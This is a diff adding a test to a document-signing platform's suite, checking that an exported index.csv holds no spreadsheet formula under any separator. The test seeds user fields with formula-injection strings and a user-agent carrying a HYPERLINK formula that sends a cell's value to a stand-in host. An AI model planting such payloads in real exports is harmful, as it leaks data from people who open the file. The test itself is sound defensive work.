@@ -31,6 +31,7 @@ import {
   signAsTrainee,
 } from '../support/documents';
 import { useTestGateway } from '../support/gateway';
+import { formulaCellsOf, SEPARATORS } from '../support/spreadsheet';
 
 const api = useTestGateway();
 
@@ -180,6 +181,43 @@ describe("a company's archive", () => {
       Object.values(row ?? {}).filter((cell) => /^[\s]*[=+\-@]/.test(cell)),
       'no cell a spreadsheet would evaluate',
     ).toEqual([]);
+  });
+
+  it('writes an index that holds no formula cell whichever separator a spreadsheet splits it on', async () => {
+    const { admin, owner, company, firm } = await buildTenant();
+    const trainee = await buildUser(
+      { role: 'employee', firmId: firm.id, companyId: company.id },
+      { last_name: 'Pop,=1+1', first_name: 'Ion;+2', job_title: 'Sudor;@SUM(1)' },
+    );
+    const record = await buildDocument(trainee);
+    const upload = await api.request('POST', '/api/signatures/upload/', {
+      body: await buildUpload(trainee, record.id),
+      token: await tokenFor(trainee),
+      headers: { 'user-agent': 'Mozilla/5.0,=HYPERLINK("http://x.example/?"&A1,"Click")' },
+    });
+    expect(upload.status).toBe(201);
+    await massSign(api, admin, [record.id]);
+    await massSign(api, owner, [record.id]);
+
+    const answer = await api.post<{ zip_url: string }>(
+      '/api/generate-company-zip/',
+      { company_id: company.id },
+      await tokenFor(owner),
+    );
+    const index = (await (
+      await downloadZip(answer.body.zip_url)
+    )
+      .file('index.csv')
+      ?.async('string')) as string;
+
+    // LibreOffice finds a formula where one is: the same cell without the platform's writer.
+    expect(
+      await formulaCellsOf('Mozilla/5.0,=HYPERLINK("http://x.example/")\r\n', SEPARATORS.comma),
+    ).toHaveLength(1);
+    for (const separator of Object.values(SEPARATORS)) {
+      expect(await formulaCellsOf(index, separator), JSON.stringify(separator)).toEqual([]);
+    }
+    expect(index).toContain(`Mozilla/5.0,'=HYPERLINK`);
   });
 
   it("downloads under the company's name and shows each record's signing time as read in Romania", async () => {
